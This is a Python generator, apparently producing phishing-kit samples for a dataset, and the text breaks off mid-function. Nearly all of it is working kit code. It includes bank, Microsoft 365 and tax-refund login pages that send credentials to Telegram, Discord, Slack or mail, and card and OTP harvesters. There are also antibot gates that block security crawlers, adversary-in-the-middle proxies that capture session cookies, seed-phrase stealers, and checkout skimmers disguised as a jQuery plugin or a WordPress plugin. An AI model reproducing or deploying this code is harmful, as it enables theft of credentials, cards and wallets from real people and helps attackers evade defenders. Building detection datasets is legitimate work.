"""Phishing kits of the train6 set: brands, sectors and languages; multi-step
kits; exfil to mail, Telegram, Discord, webhooks, files and a remote DB;
antibot and geo gates; single-page HTML kits with JS exfil; an AiTM proxy
kit; a checkout skimmer. Brands are invented look-alikes. Written blind."""

from t6_common import T, rw, ip, dom, F

BRANDS = [("Banco Nacional", "es", "Acceso a Banca en Línea", "Usuario", "Clave"),
          ("Crédit Ouest", "fr", "Espace client", "Identifiant", "Mot de passe"),
          ("Sparbank Nord", "de", "Online-Banking Anmeldung", "Anmeldename", "PIN"),
          ("Banca Sole", "it", "Accedi all'home banking", "Codice cliente", "Password"),
          ("NorthTrust Bank", "en", "Sign in to Online Banking", "User ID", "Password"),
          ("Caixa Popular", "pt", "Acesse sua conta", "CPF", "Senha"),
          ("Bank Rakyat Maju", "id", "Masuk ke Internet Banking", "User ID", "PIN"),
          ("Yapı Finans", "tr", "İnternet Şubesi Giriş", "Müşteri No", "Şifre")]


def brand(r):
    return r.choice(BRANDS)


def tgtok(r):
    return "%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rw(r, 35, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))


def page(title, lang, fields, action, extra=""):
    inputs = "\n".join('      <label>%s</label><input type="%s" name="%s" required>' % (lab, typ, n) for lab, typ, n in fields)
    return ("<!DOCTYPE html>\n<html lang=\"%s\"><head><meta charset=\"utf-8\"><title>%s</title>\n"
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"><link rel=\"stylesheet\" href=\"assets/app.css\">\n"
            "</head><body><div class=\"box\"><img src=\"assets/logo.svg\" alt=\"\"><h2>%s</h2>\n"
            "    <form method=\"post\" action=\"%s\" autocomplete=\"off\">\n%s\n      <button type=\"submit\">OK</button>\n    </form>%s\n"
            "</div></body></html>\n") % (lang, title, title, action, inputs, extra)


def kitdir(r):
    return r.choice(("wp-content/uploads/2024/10/", "secure/", ".well-known/acme/", "login/", "verify-" + rw(r, 4) + "/",
                     "wp-includes/" + rw(r, 5) + "/", "online/", ""))


def bank_tg(r, v):
    b, lang, title, ul, pl = brand(r)
    d = kitdir(r)
    tok, chat = tgtok(r), -r.randint(10 ** 9, 10 ** 10)
    html = page(title, lang, [(ul, "text", "u"), (pl, "password", "p")], "post.php")
    if v == 0:
        c = T("""<?php
$ip = $_SERVER['HTTP_CF_CONNECTING_IP'] ?? $_SERVER['REMOTE_ADDR'];
$txt = "== @B@ ==\\nUser: {$_POST['u']}\\nPass: {$_POST['p']}\\nIP: $ip\\nUA: {$_SERVER['HTTP_USER_AGENT']}";
$ch = curl_init('https://api.telegram.org/bot@T@/sendMessage');
curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_POSTFIELDS => ['chat_id' => '@C@', 'text' => $txt], CURLOPT_RETURNTRANSFER => 1]);
curl_exec($ch);
header('Location: loading.html');
""", B=b, T=tok, C=chat)
    elif v == 1:
        c = T("""<?php
session_start();
$cfg = ['token' => '@T@', 'chat' => '@C@'];
$m = sprintf("🏦 %s\\n👤 %s\\n🔑 %s\\n🌍 %s", '@B@', $_POST['u'], $_POST['p'], $_SERVER['REMOTE_ADDR']);
file_get_contents('https://api.telegram.org/bot' . $cfg['token'] . '/sendMessage?' . http_build_query(['chat_id' => $cfg['chat'], 'text' => $m, 'parse_mode' => 'HTML']));
$_SESSION['u'] = $_POST['u'];
header('Location: sms.php');
""", B=b, T=tok, C=chat)
    else:
        c = T("""<?php
$d = json_encode(['chat_id' => '@C@', 'text' => '@B@ | ' . $_POST['u'] . ' | ' . $_POST['p'] . ' | ' . $_SERVER['REMOTE_ADDR']]);
$opts = ['http' => ['method' => 'POST', 'header' => 'Content-Type: application/json', 'content' => $d]];
@file_get_contents('https://api.telegram.org/bot@T@/sendMessage', false, stream_context_create($opts));
echo '<meta http-equiv="refresh" content="0;url=https://www.example.com/">';
""", B=b, T=tok, C=chat)
    return [F(html, d + "index.html", "html", "kit"), F(c, d + "post.php", "php", "kit")]


def single_html(r, v):
    u = "https://%s/%s" % (dom(r), r.choice(("api/collect", "r.php", "submit")))
    if v == 0:
        js = T("""<script>
var em = decodeURIComponent(location.hash.slice(1)); if (em.indexOf('@') > 0) { document.getElementById('e').value = em; document.getElementById('dom').textContent = em.split('@')[1]; }
document.getElementById('f').addEventListener('submit', function (ev) {
  ev.preventDefault();
  var x = new XMLHttpRequest(); x.open('POST', '@U@', true);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  x.send('email=' + encodeURIComponent(document.getElementById('e').value) + '&pass=' + encodeURIComponent(document.getElementById('pw').value));
  document.getElementById('err').style.display = 'block'; document.getElementById('pw').value = '';
});
</script>""", U=u)
    elif v == 1:
        js = T("""<script>
const q = new URLSearchParams(location.search); const mail = atob(q.get('id') || '') || '';
document.querySelector('#e').value = mail;
let tries = 0;
document.querySelector('#f').onsubmit = async (e) => {
  e.preventDefault();
  const body = new FormData(e.target); body.append('try', ++tries);
  await fetch('@U@', { method: 'POST', mode: 'no-cors', body });
  if (tries >= 2) location.replace('https://' + mail.split('@')[1]); else document.querySelector('#err').hidden = false;
};
</script>""", U=u)
    else:
        js = T("""<script>
(function(){var _0x=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','@D@','/g.php'];
document.getElementById('f').onsubmit=function(e){e.preventDefault();
var i=new Image();i.src=_0x[0]+_0x[1]+_0x[2]+'?a='+btoa(document.getElementById('e').value+':'+document.getElementById('pw').value);
setTimeout(function(){location.href='https://outlook.example.com/'},900);};})();
</script>""", D=dom(r))
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title>
<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.c{width:360px;margin:80px auto;background:#fff;padding:40px}</style></head>
<body><div class="c"><h3>Sign in</h3><p>Your session for <b id="dom">your organisation</b> has expired.</p>
<form id="f"><input id="e" name="email" type="email" placeholder="Email"><input id="pw" name="pass" type="password" placeholder="Password">
<p id="err" style="display:none;color:#c00" hidden>Your account or password is incorrect.</p><button>Sign in</button></form></div>
%s
</body></html>
""" % js
    return [F(html, kitdir(r) + r.choice(("invoice.html", "Document_%d.html" % r.randint(100, 999), "index.htm", "view.shtml")), "html", "kit:webmail-html")]


def m365_discord(r, v):
    hook = "https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), rw(r, 64))
    d = kitdir(r)
    html = page("Microsoft account", "en", [("Email, phone, or Skype", "email", "login"), ("Password", "password", "passwd")], "next.php")
    if v == 0:
        c = T("""<?php
$embed = ['title' => 'O365 log', 'fields' => [['name' => 'login', 'value' => $_POST['login']], ['name' => 'pass', 'value' => $_POST['passwd']], ['name' => 'ip', 'value' => $_SERVER['REMOTE_ADDR']]]];
$ch = curl_init('@W@');
curl_setopt($ch, CURLOPT_HTTPHEADER, ['Content-Type: application/json']);
curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['embeds' => [$embed]]));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_exec($ch);
header('Location: https://login.example.com/common/oauth2/authorize');
""", W=hook)
    elif v == 1:
        c = T("""<?php
$hooks = ['@W@', '@W@?wait=true'];
$content = "**New** `" . $_POST['login'] . "` : `" . $_POST['passwd'] . "` from " . gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach ($hooks as $h) { @file_get_contents($h, false, stream_context_create(['http' => ['method' => 'POST', 'header' => "Content-Type: application/json\\r\\n", 'content' => json_encode(['content' => $content, 'username' => 'logs'])]])); }
echo json_encode(['status' => 'error', 'msg' => 'Your account or password is incorrect.']);
""", W=hook)
    else:
        c = T("""<?php
$slack = 'https://hooks.slack.com/services/T0@A@/B0@B@/@C@';
$payload = 'payload=' . urlencode(json_encode(['text' => implode(' | ', [$_POST['login'], $_POST['passwd'], $_SERVER['REMOTE_ADDR'], date('c')])]));
$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $payload, 'header' => 'Content-Type: application/x-www-form-urlencoded']]);
file_get_contents($slack, false, $ctx);
file_get_contents('@W@', false, stream_context_create(['http' => ['method' => 'POST', 'header' => 'Content-Type: application/json', 'content' => json_encode(['content' => $_POST['login'] . ':' . $_POST['passwd']])]]));
header('Location: index.html?error=1');
""", A=rw(r, 8).upper(), B=rw(r, 8).upper(), C=rw(r, 24), W=hook)
    return [F(html, d + "index.html", "html", "kit:m365-discord"), F(c, d + "next.php", "php", "kit:m365-discord")]


def multistep(r, v):
    d = kitdir(r)
    to = "rezult%d@example.net" % r.randint(1, 99)
    files = []
    s1 = page("Log in to your account", "en", [("Email", "email", "email"), ("Password", "password", "password")], "?step=2")
    s2 = page("Confirm your card", "en", [("Card number", "text", "cc"), ("Expiry", "text", "exp"), ("CVV", "text", "cvv"), ("Name on card", "text", "holder")], "?step=3")
    s3 = page("Enter the code we sent", "en", [("Code", "text", "otp")], "?step=4")
    if v == 0:
        c = T("""<?php
session_start();
$step = (int) ($_GET['step'] ?? 1);
if ($_SERVER['REQUEST_METHOD'] === 'POST') { $_SESSION['d'] = array_merge($_SESSION['d'] ?? [], $_POST); }
if ($step === 4) {
    $msg = '';
    foreach ($_SESSION['d'] as $k => $v) { $msg .= "$k: $v\\n"; }
    $msg .= 'IP: ' . $_SERVER['REMOTE_ADDR'] . "\\n";
    mail('@TO@', 'PP Full | ' . $_SESSION['d']['email'], $msg, 'From: kit <kit@example.org>');
    session_destroy();
    header('Location: https://www.example.com/');
    exit;
}
readfile(__DIR__ . "/steps/s$step.html");
""", TO=to)
        files.append(F(c, d + "index.php", "php", "kit:pay-multistep"))
    elif v == 1:
        c = T("""<?php
session_start();
$pages = ['login', 'billing', 'card', 'otp', 'done'];
$cur = $_SESSION['p'] ?? 0;
if (!empty($_POST)) {
    $line = date('Y-m-d H:i') . ' [' . $pages[$cur] . '] ' . http_build_query($_POST) . ' ' . $_SERVER['REMOTE_ADDR'] . PHP_EOL;
    $_SESSION['log'] = ($_SESSION['log'] ?? '') . $line;
    $_SESSION['p'] = ++$cur;
    if ($pages[$cur] === 'done') { mail('@TO@', 'Full info', $_SESSION['log']); }
}
include __DIR__ . '/steps/' . $pages[min($cur, 3)] . '.html';
""", TO=to)
        files.append(F(c, d + "app.php", "php", "kit:pay-multistep"))
    else:
        c = T("""<?php
$id = preg_replace('/\\W/', '', $_COOKIE['sid'] ?? bin2hex(random_bytes(6)));
setcookie('sid', $id);
$f = __DIR__ . '/tmp/' . $id . '.json';
$data = is_file($f) ? json_decode(file_get_contents($f), true) : [];
$data = array_merge($data, $_POST);
file_put_contents($f, json_encode($data));
if (isset($data['otp'])) {
    $body = print_r($data, true);
    mail('@TO@', 'VBV ' . ($data['cc'] ?? ''), $body, "From: noreply@" . $_SERVER['HTTP_HOST']);
    unlink($f);
    die(header('Location: https://www.example.com/'));
}
$next = isset($data['cvv']) ? 's3' : (isset($data['password']) ? 's2' : 's1');
readfile("steps/$next.html");
""", TO=to)
        files.append(F(c, d + "verify.php", "php", "kit:pay-multistep"))
    files += [F(s1, d + "steps/s1.html", "html", "kit:pay-multistep"), F(s2, d + "steps/s2.html", "html", "kit:pay-multistep"),
              F(s3, d + "steps/s3.html", "html", "kit:pay-multistep")]
    return files


def parcel(r, v):
    d = kitdir(r)
    carrier = r.choice(("ParcelGo", "ExpressPost", "Colis Rapide", "PaketBlitz", "Correo Veloz"))
    html = page("%s – pay the customs fee (1,99 EUR)" % carrier, "en", [("Full name", "text", "n"), ("Address", "text", "a"), ("Card number", "text", "c"), ("MM/YY", "text", "e"), ("CVC", "text", "v")], "pay.php")
    if v == 0:
        c = """<?php
$line = implode('|', [$_POST['n'], $_POST['a'], $_POST['c'], $_POST['e'], $_POST['v'], $_SERVER['REMOTE_ADDR'], date('c')]) . "\\n";
file_put_contents(__DIR__ . '/../.cache/.cards.txt', $line, FILE_APPEND | LOCK_EX);
header('Location: wait.html');
"""
    elif v == 1:
        c = """<?php
$fh = fopen(dirname(__FILE__) . '/logs/' . date('Ymd') . '.log', 'a');
fwrite($fh, json_encode(['card' => $_POST['c'], 'exp' => $_POST['e'], 'cvc' => $_POST['v'], 'holder' => $_POST['n'], 'addr' => $_POST['a'], 'ua' => $_SERVER['HTTP_USER_AGENT']]) . PHP_EOL);
fclose($fh);
$bin = substr(preg_replace('/\\D/', '', $_POST['c']), 0, 6);
$info = @json_decode(file_get_contents('https://lookup.example.net/' . $bin), true);
echo '<script>location="otp.html?b=' . urlencode($info['bank']['name'] ?? '') . '"</script>';
"""
    else:
        c = T("""<?php
$rez = "+ @C@ +\\nName: " . $_POST['n'] . "\\nCC: " . $_POST['c'] . "\\nEXP: " . $_POST['e'] . "\\nCVV: " . $_POST['v'] . "\\n";
$rez .= "IP: " . $_SERVER['REMOTE_ADDR'] . "\\n";
$save = fopen('../../' . md5('@C@') . '.txt', 'a');
fputs($save, $rez);
fclose($save);
mail('box@example.net', '@C@ CC ' . $_SERVER['REMOTE_ADDR'], $rez);
header('Location: https://www.example.com/track');
""", C=carrier)
    return [F(html, d + "index.html", "html", "kit:parcel-card"), F(c, d + "pay.php", "php", "kit:parcel-card")]


def antibot(r, v):
    d = kitdir(r)
    if v == 0:
        c = """<?php
$bad_ua = ['bot', 'crawl', 'spider', 'curl', 'python', 'wget', 'phishtank', 'netcraft', 'google', 'bing', 'yandex', 'headless'];
foreach ($bad_ua as $b) { if (stripos($_SERVER['HTTP_USER_AGENT'] ?? '', $b) !== false) { header('HTTP/1.0 404 Not Found'); exit; } }
$host = gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach (['amazonaws', 'googleusercontent', 'digitalocean', 'msn.com', 'paypal', 'kaspersky', 'forcepoint'] as $h) { if (stripos($host, $h) !== false) { header('Location: https://www.example.com/'); exit; } }
$geo = json_decode(@file_get_contents('http://ip-api.example.com/json/' . $_SERVER['REMOTE_ADDR']), true);
if (!in_array($geo['countryCode'] ?? '', ['US', 'CA', 'GB'])) { die(header('Location: https://www.example.com/')); }
if (!empty($geo['hosting']) || !empty($geo['proxy'])) { exit; }
$dir = substr(md5(uniqid()), 0, 10);
@mkdir($dir); @copy('tpl/index.php', "$dir/index.php");
header("Location: $dir/");
"""
    elif v == 1:
        c = """<?php
function ip_in($ip, $cidr) { [$n, $m] = explode('/', $cidr); return (ip2long($ip) & ~((1 << (32 - $m)) - 1)) === ip2long($n); }
$blocked = ['192.0.2.0/24', '198.51.100.0/25', '198.51.100.128/26', '203.0.113.0/25', '203.0.113.192/27'];
foreach ($blocked as $cidr) { if (ip_in($_SERVER['REMOTE_ADDR'], $cidr)) { http_response_code(403); exit('Forbidden'); } }
if (empty($_SERVER['HTTP_ACCEPT_LANGUAGE']) || empty($_SERVER['HTTP_REFERER']) && empty($_GET['t'])) { exit; }
if (!isset($_COOKIE['seen'])) { setcookie('seen', 1, time() + 3600); }
$lang = strtolower(substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 2));
include __DIR__ . '/pages/' . (in_array($lang, ['fr', 'de', 'es', 'it']) ? $lang : 'en') . '/login.php';
"""
    else:
        c = """<?php
$visitor = $_SERVER['REMOTE_ADDR'];
$list = @file(__DIR__ . '/.blacklist', FILE_IGNORE_NEW_LINES) ?: [];
if (in_array($visitor, $list)) { header('Location: https://www.example.org/'); exit; }
$ch = curl_init('https://api.example.net/v1/check?ip=' . $visitor . '&key=demo');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
$res = json_decode(curl_exec($ch), true);
if (($res['is_bot'] ?? false) || ($res['is_vpn'] ?? false) || ($res['country'] ?? '') !== 'AU') {
    file_put_contents(__DIR__ . '/.blacklist', $visitor . "\\n", FILE_APPEND);
    header('Location: https://www.example.org/');
    exit;
}
file_put_contents(__DIR__ . '/visits.txt', date('c') . " $visitor {$_SERVER['HTTP_USER_AGENT']}\\n", FILE_APPEND);
echo file_get_contents(__DIR__ . '/mygov/login.html');
"""
    return [F(c, d + "index.php", "php", "kit:antibot-gate")]


def remote_db(r, v):
    d = kitdir(r)
    h = ip(r)
    html = page("Apple Account", "en", [("Apple Account", "email", "appleid"), ("Password", "password", "pwd")], "signin.php")
    if v == 0:
        c = T("""<?php
$pdo = new PDO('mysql:host=@H@;port=3306;dbname=logs', 'collector', '@PW@');
$st = $pdo->prepare('INSERT INTO victims (brand, login, pass, ip, ua, ts) VALUES (?, ?, ?, ?, ?, NOW())');
$st->execute(['apple', $_POST['appleid'], $_POST['pwd'], $_SERVER['REMOTE_ADDR'], $_SERVER['HTTP_USER_AGENT']]);
header('Location: verify.html');
""", H=h, PW=rw(r, 12))
    elif v == 1:
        c = T("""<?php
$db = mysqli_connect('@H@', 'panel', '@PW@', 'panel');
$q = sprintf("INSERT INTO logs SET kit='icloud', u='%s', p='%s', ip='%s'", mysqli_real_escape_string($db, $_POST['appleid']), mysqli_real_escape_string($db, $_POST['pwd']), $_SERVER['REMOTE_ADDR']);
mysqli_query($db, $q);
$id = mysqli_insert_id($db);
header('Location: wait.php?id=' . $id);
""", H=h, PW=rw(r, 12))
    else:
        c = T("""<?php
$payload = json_encode(['kit' => 'apple', 'login' => $_POST['appleid'], 'password' => $_POST['pwd'], 'ip' => $_SERVER['REMOTE_ADDR']]);
$ch = curl_init('https://@D@/rest/v1/logs');
curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => $payload, CURLOPT_RETURNTRANSFER => true,
    CURLOPT_HTTPHEADER => ['apikey: @K@', 'Authorization: Bearer @K@', 'Content-Type: application/json', 'Prefer: return=minimal']]);
curl_exec($ch);
header('Location: https://www.example.com/');
""", D=dom(r), K=rw(r, 48))
    return [F(html, d + "index.html", "html", "kit:apple-remotedb"), F(c, d + "signin.php", "php", "kit:apple-remotedb")]


def aitm(r, v):
    up = r.choice(("login.example.com", "accounts.example.net", "sso.example.org"))
    if v == 0:
        c = T("""<?php
$up = 'https://@U@';
$path = $_SERVER['REQUEST_URI'];
$ch = curl_init($up . $path);
$hdrs = [];
foreach (getallheaders() as $k => $val) { if (!in_array(strtolower($k), ['host', 'accept-encoding', 'content-length'])) $hdrs[] = "$k: $val"; }
curl_setopt_array($ch, [CURLOPT_RETURNTRANSFER => 1, CURLOPT_HEADER => 1, CURLOPT_HTTPHEADER => $hdrs, CURLOPT_FOLLOWLOCATION => 0]);
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $body = file_get_contents('php://input');
    curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
    file_put_contents(__DIR__ . '/.creds', date('c') . ' ' . $body . "\\n", FILE_APPEND);
}
$resp = curl_exec($ch);
$hs = curl_getinfo($ch, CURLINFO_HEADER_SIZE);
foreach (explode("\\r\\n", substr($resp, 0, $hs)) as $h) {
    if (stripos($h, 'set-cookie:') === 0) { file_put_contents(__DIR__ . '/.cookies', $h . "\\n", FILE_APPEND); $h = str_ireplace('domain=@U@', 'domain=' . $_SERVER['HTTP_HOST'], $h); }
    if ($h && stripos($h, 'transfer-encoding') === false && stripos($h, 'content-security-policy') === false) header($h, false);
}
echo str_replace('@U@', $_SERVER['HTTP_HOST'], substr($resp, $hs));
""", U=up)
        return [F(c, "index.php", "php", "kit:aitm-proxy"), F("RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^ index.php [L]\n", ".htaccess", "htaccess", "kit:aitm-proxy")]
    if v == 1:
        c = T("""const http = require('http');
const https = require('https');
const fs = require('fs');
const UP = '@U@';
http.createServer((req, res) => {
  let body = [];
  req.on('data', (c) => body.push(c));
  req.on('end', () => {
    body = Buffer.concat(body);
    if (body.length) fs.appendFileSync('.loot', new Date().toISOString() + ' ' + req.url + ' ' + body + '\\n');
    const h = { ...req.headers, host: UP };
    delete h['accept-encoding'];
    const p = https.request({ host: UP, path: req.url, method: req.method, headers: h }, (up) => {
      const sc = (up.headers['set-cookie'] || []).map((c) => c.replace(/domain=[^;]+/i, ''));
      if (sc.length) fs.appendFileSync('.sessions', JSON.stringify(sc) + '\\n');
      const chunks = [];
      up.on('data', (d) => chunks.push(d));
      up.on('end', () => {
        res.writeHead(up.statusCode, { ...up.headers, 'set-cookie': sc, 'content-security-policy': '' });
        res.end(Buffer.concat(chunks).toString().split(UP).join(req.headers.host));
      });
    });
    p.end(body);
  });
}).listen(process.env.PORT || 8080);
""", U=up)
        return [F(c, "app/server.js", "js", "kit:aitm-proxy")]
    c = T("""import http.server, urllib.request, ssl, datetime
UP = '@U@'
ctx = ssl.create_default_context()
class H(http.server.BaseHTTPRequestHandler):
    def relay(self):
        n = int(self.headers.get('Content-Length') or 0)
        body = self.rfile.read(n) if n else None
        if body:
            open('.capt', 'ab').write(datetime.datetime.now().isoformat().encode() + b' ' + body + b'\\n')
        hdr = {k: v for k, v in self.headers.items() if k.lower() not in ('host', 'accept-encoding')}
        req = urllib.request.Request('https://' + UP + self.path, data=body, headers=hdr, method=self.command)
        try:
            up = urllib.request.urlopen(req, context=ctx)
        except urllib.error.HTTPError as e:
            up = e
        self.send_response(up.status if hasattr(up, 'status') else up.code)
        for k, v in up.headers.items():
            if k.lower() == 'set-cookie':
                open('.cookies', 'a').write(v + '\\n')
                v = v.replace('Domain=' + UP, '')
            if k.lower() not in ('content-length', 'transfer-encoding', 'content-security-policy'):
                self.send_header(k, v)
        data = up.read().replace(UP.encode(), self.headers['Host'].encode())
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_GET = do_POST = relay
http.server.ThreadingHTTPServer(('0.0.0.0', 8443), H).serve_forever()
""", U=up)
    return [F(c, "proxy/relay.py", "python", "kit:aitm-proxy")]


def wallet(r, v):
    d = kitdir(r)
    w = r.choice(("MetaFox", "TrustVault", "Phantom Leaf", "LedgerLine"))
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>%s - Restore wallet</title></head><body>
<h2>Import your Secret Recovery Phrase</h2><form id="f" method="post" action="sync.php">
%s
<button>Restore</button></form></body></html>
""" % (w, "\n".join('<input name="w%d" placeholder="Word %d">' % (i, i) for i in range(1, 13)))
    if v == 0:
        c = T("""<?php
$phrase = implode(' ', array_map(fn($i) => trim($_POST['w' . $i] ?? ''), range(1, 24)));
$ch = curl_init('https://discord.com/api/webhooks/@A@/@B@');
curl_setopt_array($ch, [CURLOPT_POSTFIELDS => json_encode(['content' => "@W@ seed: `$phrase` ip " . $_SERVER['REMOTE_ADDR']]), CURLOPT_HTTPHEADER => ['Content-Type: application/json'], CURLOPT_RETURNTRANSFER => 1]);
curl_exec($ch);
header('Location: error.html');
""", A=r.randint(10 ** 17, 10 ** 18), B=rw(r, 60), W=w)
    elif v == 1:
        c = T("""<?php
$words = [];
foreach ($_POST as $k => $val) { if (preg_match('/^w\\d+$/', $k)) $words[(int) substr($k, 1)] = strtolower(trim($val)); }
ksort($words);
$msg = '@W@ | ' . implode(' ', $words);
file_get_contents('https://api.telegram.org/bot@T@/sendMessage?chat_id=@C@&text=' . urlencode($msg));
mail('seeds@example.org', '@W@ phrase', $msg);
echo json_encode(['ok' => false, 'error' => 'Invalid phrase, try again']);
""", W=w, T=tgtok(r), C=r.randint(10 ** 8, 10 ** 9))
        return [F(html, d + "index.html", "html", "kit:wallet-seed"), F(c, d + "sync.php", "php", "kit:wallet-seed")]
    else:
        js = T("""<script>
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  var words = Array.prototype.map.call(document.querySelectorAll('#f input'), function (i) { return i.value.trim(); }).join(' ');
  navigator.sendBeacon('https://@D@/api/v2/report', JSON.stringify({ w: '@W@', m: words, t: Date.now() }));
  alert('Network error. Please try again later.');
});
</script>""", D=dom(r), W=w)
        return [F(html.replace("</body>", js + "\n</body>"), d + "restore.html", "html", "kit:wallet-seed")]
    return [F(html, d + "index.html", "html", "kit:wallet-seed"), F(c, d + "sync.php", "php", "kit:wallet-seed")]


def tax_refund(r, v):
    d = kitdir(r)
    lang, title, msgs = r.choice([("fr", "Remboursement d'impôt", ("Nom", "Numéro fiscal", "Carte bancaire", "Date d'expiration", "Cryptogramme")),
                                  ("de", "Steuerrückerstattung", ("Name", "Steuer-ID", "Kartennummer", "Ablaufdatum", "Prüfnummer")),
                                  ("es", "Devolución de impuestos", ("Nombre", "NIF", "Número de tarjeta", "Caducidad", "CVV"))])
    html = page(title, lang, [(msgs[0], "text", "nom"), (msgs[1], "text", "fid"), (msgs[2], "text", "cb"), (msgs[3], "text", "exp"), (msgs[4], "text", "cvv")], "envoi.php")
    tok, chat = tgtok(r), r.randint(10 ** 8, 10 ** 9)
    if v == 0:
        c = T("""<?php
$r = "=== @TI@ ===\\n";
foreach (['nom', 'fid', 'cb', 'exp', 'cvv'] as $k) { $r .= strtoupper($k) . ': ' . ($_POST[$k] ?? '') . "\\n"; }
$r .= 'IP: ' . $_SERVER['REMOTE_ADDR'];
mail('rez@example.net', '@TI@ - ' . $_SERVER['REMOTE_ADDR'], $r);
file_get_contents('https://api.telegram.org/bot@T@/sendMessage?chat_id=@C@&text=' . rawurlencode($r));
header('Location: merci.html');
""", TI=title.replace("'", "’"), T=tok, C=chat)
    elif v == 1:
        c = T("""<?php
require 'config.php';
$lines = array_map(fn($k, $v) => "$k => $v", array_keys($_POST), $_POST);
$text = "@TI@\\n" . implode("\\n", $lines) . "\\n" . $_SERVER['HTTP_USER_AGENT'];
foreach ($config['chats'] as $chat) {
    $u = "https://api.telegram.org/bot{$config['bot']}/sendMessage";
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_POSTFIELDS, ['chat_id' => $chat, 'text' => $text]);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    curl_exec($c);
}
if ($config['email']) { mail($config['email'], '@TI@', $text); }
header('Location: ' . $config['exit']);
""", TI=title.replace("'", "’"))
        cfg = T("<?php\n$config = ['bot' => '@T@', 'chats' => ['@C@', '-@C@1'], 'email' => 'drop@example.org', 'exit' => 'https://www.example.com/'];\n", T=tok, C=chat)
        return [F(html, d + "index.html", "html", "kit:tax-refund"), F(c, d + "envoi.php", "php", "kit:tax-refund"), F(cfg, d + "config.php", "php", "kit:tax-refund")]
    else:
        c = T("""<?php
$fp = fopen('res/' . date('Y-m-d') . '.html', 'a+');
fwrite($fp, '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', $_POST)) . '</td><td>' . $_SERVER['REMOTE_ADDR'] . '</td></tr>');
fclose($fp);
$send = 'resultados@example.com';
$headers = "From: @TI@ <robot@" . $_SERVER['SERVER_NAME'] . ">\\r\\nContent-Type: text/plain; charset=UTF-8";
@mail($send, '@TI@ CC ' . substr($_POST['cb'], -4), print_r($_POST, true), $headers);
header('Location: ok.html');
""", TI=title.replace("'", "’"))
    return [F(html, d + "index.html", "html", "kit:tax-refund"), F(c, d + "envoi.php", "php", "kit:tax-refund")]


def skimmer(r, v):
    u = "https://%s/%s" % (dom(r), r.choice(("img/pixel.gif", "api/stats", "collect")))
    if v == 0:
        js = T("""(function () {
  function grab() {
    var o = {};
    ['cc_number', 'cc_exp_month', 'cc_exp_year', 'cc_cid', 'billing:firstname', 'billing:lastname', 'billing:street1', 'billing:email'].forEach(function (n) {
      var e = document.querySelector('[name="payment[' + n + ']"]') || document.getElementById(n.replace(':', '_'));
      if (e && e.value) o[n] = e.value;
    });
    return o;
  }
  document.addEventListener('click', function (e) {
    if (e.target.closest('button.checkout, #payment-buttons-container button')) {
      var d = grab();
      if (d.cc_number) { new Image().src = '@U@?d=' + btoa(unescape(encodeURIComponent(JSON.stringify(d)))); }
    }
  }, true);
})();
""", U=u)
        return [F(js, "skin/frontend/default/theme/js/jquery.cookie.min.js", "js", "kit:checkout-skimmer")]
    if v == 1:
        js = T("""document.addEventListener('DOMContentLoaded', () => {
  const form = document.querySelector('form.checkout, form[name="checkout"]');
  if (!form) return;
  form.addEventListener('submit', () => {
    const fd = new FormData(form);
    const pick = {};
    for (const [k, v] of fd.entries()) if (/card|cvv|cvc|exp|billing_/.test(k)) pick[k] = v;
    navigator.sendBeacon('@U@', new Blob([JSON.stringify({ h: location.host, d: pick })], { type: 'text/plain' }));
  });
});
""", U=u)
        return [F(js, "wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.ext.js", "js", "kit:checkout-skimmer")]
    code = T("""<?php
/**
 * Checkout footer scripts
 */
add_action('wp_footer', function () {
    if (!function_exists('is_checkout') || !is_checkout()) return;
    echo '<script>setInterval(function(){var f=document.querySelectorAll("input");var s="";for(var i=0;i<f.length;i++){if(f[i].value){s+=f[i].name+"="+f[i].value+"&";}}if(s.indexOf("card")>-1&&s!=window.__s){window.__s=s;fetch("@U@",{method:"POST",mode:"no-cors",body:s});}},2500);</script>';
});
""", U=u)
    return [F(code, "wp-content/mu-plugins/checkout-footer.php", "php", "kit:checkout-skimmer")]


def streaming(r, v):
    d = kitdir(r)
    lang, title, labels = r.choice([("pt", "Atualize seu pagamento", ("E-mail", "Senha", "Número do cartão", "Validade", "CVV")),
                                    ("it", "Aggiorna il tuo metodo di pagamento", ("Email", "Password", "Numero carta", "Scadenza", "CVV")),
                                    ("en", "Update your payment details", ("Email", "Password", "Card number", "Expiry", "CVV"))])
    html = page(title, lang, [(labels[0], "email", "em"), (labels[1], "password", "pw"), (labels[2], "text", "cn"), (labels[3], "text", "ex"), (labels[4], "text", "cv")], "billing.php")
    if v == 0:
        c = """<?php
$o = "Email: {$_POST['em']}\\nSenha: {$_POST['pw']}\\nCartao: {$_POST['cn']} {$_POST['ex']} {$_POST['cv']}\\nIP: {$_SERVER['REMOTE_ADDR']}\\n-----\\n";
file_put_contents('../../logs.txt', $o, FILE_APPEND);
mail('flix@example.net', 'Nova info ' . $_SERVER['REMOTE_ADDR'], $o);
header('Location: https://www.example.com/browse');
"""
    elif v == 1:
        c = """<?php
